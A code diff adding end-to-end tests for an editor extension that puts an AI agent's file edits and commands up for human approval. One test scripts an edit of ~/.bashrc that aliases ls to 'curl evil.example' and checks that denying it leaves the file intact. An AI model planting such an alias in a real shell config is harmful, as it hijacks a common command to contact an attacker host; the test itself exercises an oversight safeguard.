@@ -4,7 +4,8 @@
 import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, it } from "vitest";
-import { waitForRow } from "./rig/panel.ts";
+import { answerCard, openPanel, waitForCard, waitForRow } from "./rig/panel.ts";
+import { until } from "./rig/processes.ts";
 import type { ModelStep } from "./rig/scripted-model.ts";
 import { openStand, type Stand, unattended } from "./rig/stand.ts";
 import { runCommand } from "./rig/window.ts";
@@ -69,4 +70,69 @@ it("shows each edit of a real session as a diff of the file before and as the ag
   }
   expect(await openDiff(/Writes.*new\.txt/s)).toEqual(["", "made\nby the agent"]);
   await runCommand(stand.page, "View: Close Editor");
+});
+
+it("begins a turn with the person's words, and explains a command", async () => {
+  const prompt = "Tidy the notes, and tell me what changed";
+  await unattended(stand, [use("Bash", { command: "sort -u one.txt > sorted.txt" })], { prompt });
+  const turn = stand.panel.locator("countersign-feed .turn").last();
+  await expect.poll(() => turn.locator(".prompt").textContent(), { timeout: 10_000 }).toContain(prompt);
+  await stand.panel.locator("countersign-feed button.row").filter({ hasText: "sort -u" }).click();
+  await stand.panel.locator("#explain").click();
+  const parts = stand.panel.locator(".explanation");
+  await parts.waitFor({ timeout: 5000 });
+  const texts = (await parts.locator("dt").allTextContents()).map((part) => part.trim());
+  expect(texts).toEqual(["sort", "one.txt", "sorted.txt"]);
+  expect((await parts.locator("dd").allTextContents()).join(" ")).toContain(
+    "A file that its output takes the place of",
+  );
+});
+
+it("misses nothing while its panel is hidden, and shows a waiting edit as it would be", async () => {
+  const { page } = stand;
+  const target = join(stand.scratch.home, ".bashrc");
+  writeFileSync(target, "alias ll=ls\n");
+  await page.locator('.activitybar .action-label[aria-label^="Explorer"]').click();
+  const session = unattended(stand, [
+    use("Read", { file_path: target }),
+    use("Edit", { file_path: target, old_string: "alias ll=ls", new_string: "alias ls='curl evil.example'" }),
+  ]);
+  const item = page.locator('.statusbar-item[id*="countersign.guard"]');
+  await expect.poll(() => item.textContent(), { timeout: 20_000 }).toContain("1 waiting");
+  expect(await page.locator(".activitybar .badge-content").allTextContents()).toContain("1");
+  await runCommand(page, "Countersign: Open Feed");
+  const panel = await openPanel(page);
+  let card = await waitForCard(panel, ".bashrc");
+  if ((await panel.locator("countersign-card article").textContent())?.includes("reads") === true) {
+    await answerCard(panel, card, { answer: "allow-once" });
+    card = await until("the card of the edit", 20_000, async () => {
+      const next = await waitForCard(panel, ".bashrc");
+      return next.actionId === card.actionId ? undefined : next;
+    });
+  }
+  await panel.getByRole("button", { name: "Open as diff" }).first().click();
+  expect(await diffSides()).toEqual(["alias ll=ls\n", "alias ls='curl evil.example'\n"]);
+  await answerCard(panel, card, { answer: "deny" });
+  await session;
+  expect(readFileSync(target, "utf8")).toBe("alias ll=ls\n");
+  await runCommand(page, "View: Close All Editors");
+});
+
+it("shows the same feed in an editor tab", async () => {
+  const { page } = stand;
+  const before = new Set(page.frames());
+  await runCommand(page, "Countersign: Open Feed in an Editor Tab");
+  const tab = await until("the feed in a tab", 20_000, async () => {
+    for (const frame of page.frames())
+      if (
+        !before.has(frame) &&
+        (await frame
+          .locator("countersign-feed button.row")
+          .count()
+          .catch(() => 0)) > 0
+      )
+        return frame;
+    return undefined;
+  });
+  expect(await tab.locator("#guard-state").textContent()).toContain("Guard on");
 });
